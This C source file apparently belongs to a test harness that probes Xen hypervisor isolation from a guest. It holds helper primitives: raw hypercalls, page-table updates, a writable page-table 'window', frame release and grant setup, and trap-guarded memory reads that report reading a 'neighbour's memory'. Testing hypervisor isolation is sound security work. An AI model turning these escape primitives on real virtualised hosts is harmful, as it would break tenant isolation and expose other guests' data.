/* What several attacks need: entries, tables, and memory that may not be there. */
#include "attacks.h"

#include "user.h"

char own[NR_OWN][PAGE_SIZE] __attribute__((aligned(PAGE_SIZE)));

/* ---- hypercalls ---- */

long hypercall(unsigned nr, word a1, word a2, word a3, word a4, word a5)
{
    HYPERCALL_REGS(a1, a2, a3, a4, a5);
    long ret = (long)(hypercall_page + nr * HYPERCALL_SLOT_SIZE);

    __asm__ volatile("call *%0"
                     : "+a"(ret), "+r"(r1), "+r"(r2), "+r"(r3), "+r"(r4), "+r"(r5)
                     :
                     : HYPERCALL_CLOBBER);
    return ret;
}

static const char *error_name(long error)
{
    static const char *const names[] = {
        [XEN_EPERM] = "EPERM",   [XEN_ENOENT] = "ENOENT", [XEN_ESRCH] = "ESRCH",
        [XEN_ENXIO] = "ENXIO",   [XEN_E2BIG] = "E2BIG",   [XEN_ENOMEM] = "ENOMEM",
        [XEN_EACCES] = "EACCES", [XEN_EFAULT] = "EFAULT", [XEN_EBUSY] = "EBUSY",
        [XEN_EEXIST] = "EEXIST", [XEN_ENODEV] = "ENODEV", [XEN_EINVAL] = "EINVAL",
        [XEN_ENOSPC] = "ENOSPC", [XEN_ENOSYS] = "ENOSYS",
    };

    return error > 0 && error < (long)ARRAY_SIZE(names) && names[error] ? names[error] : "error";
}

bool refused(long result)
{

    if (result >= 0)
        return false;
    outcome("-%s", error_name(-result));
    return true;
}

bool trapped(const struct trap_seen *seen)
{
    char text[32];

    if (!seen->trapped)
        return false;
    trap_describe(text, sizeof(text), seen->regs.vector, seen->regs.error);
    outcome("%s", text);
    return true;
}

u64 entry_maddr(const pte_t *entry)
{
    return ((u64)virt_to_mfn(entry) << PAGE_SHIFT) | ((word)entry & (PAGE_SIZE - 1));
}

long update(u64 ptr, u64 val)
{
    struct mmu_update request = { .ptr = ptr, .val = val };

    return hv_mmu_update(&request, 1, NULL);
}

long extended(u32 cmd, word arg1, word arg2)
{
    struct mmuext_op op = { .cmd = cmd, .arg1.mfn = arg1, .arg2.src_mfn = arg2 };

    return hv_mmuext_op(&op, 1, NULL);
}

struct mmu_update requests[NR_REQUESTS];

long many_updates(void)
{
    void *page = own[NR_OWN - 1];
    u64 entry = entry_maddr(pt_walk((word)page, 1));
    long err = map(page, 0, 0);

    for (int i = 0; i < NR_REQUESTS; i++)
        requests[i] = (struct mmu_update){ .ptr = entry };
    for (int round = 0; round < 300 && !err; round++)
        err = hv_mmu_update(requests, NR_REQUESTS, NULL);
    return err;
}

/* ---- mappings ---- */

long map(const void *page, word mfn, pte_t flags)
{
    return set_l1e((word)page, make_pte(mfn, flags));
}

long map_lazily(const void *page, word mfn, pte_t flags)
{
    return hv_update_va_mapping((word)page, make_pte(mfn, flags), UVMF_NONE);
}

void make_window(void)
{
    map_page(USER_BASE, virt_to_mfn(alloc_page()), READABLE);
}

long hang_table(const void *page)
{
    long err = map(page, virt_to_mfn(page), READABLE);

    make_window();
    if (!err)
        err = update(entry_maddr(pt_walk(WINDOW, 2)), make_pte(virt_to_mfn(page), WRITABLE));
    return err;
}

/* ---- frames ---- */

static long on_extent(int cmd, word *extent, domid_t domid)
{
    struct xen_memory_reservation one = { .extent_start = extent, .nr_extents = 1, .domid = domid };

    return hv_memory_op(cmd, &one);
}

long release_frame(word mfn, domid_t domid)
{
    return on_extent(XENMEM_decrease_reservation, &mfn, domid);
}

long populate_frame(word pfn, word *mfn)
{
    *mfn = pfn;
    return on_extent(XENMEM_populate_physmap, mfn, DOMID_SELF) == 1 ? 0 : -XEN_ENOMEM;
}

word grant_frame(void)
{
    word frame = 0;
    struct gnttab_setup_table setup = { DOMID_SELF, 1, 0, &frame };
    word argument = (word)&setup;

    if (refused(hypercall(__HYPERVISOR_grant_table_op, GNTTABOP_setup_table, argument, 1, 0, 0)))
        return 0;
    return setup.status ? 0 : frame;
}

/* ---- accesses that may fault ---- */

struct access {
    const volatile void *at;
    u64 value;
};

static void load(void *arg)
{
    struct access *access = arg;

    access->value = *(const volatile word *)access->at;
}

static void store(void *arg)
{
    struct access *access = arg;

    *(volatile word *)access->at = (word)access->value;
}

static void store_entry(void *arg)
{
    struct access *access = arg;
    volatile pte_t *at = (volatile pte_t *)access->at;

#if defined(WIDTH_X86_32P)
    /* The one instruction with which a 32-bit CPU changes 64 bits in one piece. */
    u64 old = *at;

    __asm__ volatile("1: lock cmpxchg8b %0; jne 1b"
                     : "+m"(*at), "+A"(old)
                     : "b"((u32)access->value), "c"((u32)(access->value >> 32)));
#else
    *at = (pte_t)access->value;
#endif
}

static bool attempt(void (*fn)(void *), struct access *access)
{
    struct trap_seen seen;

    trap_catch(fn, access, &seen);
    return !trapped(&seen);
}

bool peek(const volatile void *at, word *value)
{
    struct access access = { .at = at };
    bool done = attempt(load, &access);

    *value = (word)access.value;
    return done;
}

bool poke(volatile void *at, word value)
{
    return attempt(store, &(struct access){ .at = at, .value = value });
}

bool poke_entry(volatile pte_t *at, pte_t value)
{
    return attempt(store_entry, &(struct access){ .at = at, .value = value });
}

bool finds_secret(const volatile void *at)
{
    word value;

    if (!peek(at, &value) || value != SECRET)
        return false;
    escaped("read the neighbour's memory");
    return true;
}

bool window_shows_secret(void)
{
    return finds_secret((const void *)WINDOW);
}
